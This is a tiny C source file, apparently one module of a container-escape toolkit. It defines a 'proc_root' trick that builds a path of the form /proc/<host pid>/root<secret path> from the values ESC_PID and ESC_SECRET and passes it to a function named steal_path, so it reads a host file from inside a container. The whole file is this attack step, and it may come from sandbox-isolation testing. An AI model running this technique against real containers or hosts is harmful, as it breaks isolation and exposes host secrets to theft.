/* Reads a file of the host through the root of a process of the host. */
#include "../escape.h"

TRICK(proc_root) {
    char path[600];
    snprintf(path, sizeof path, "/proc/%s/root%s", told("ESC_PID"), told("ESC_SECRET"));
    return steal_path(path);
}
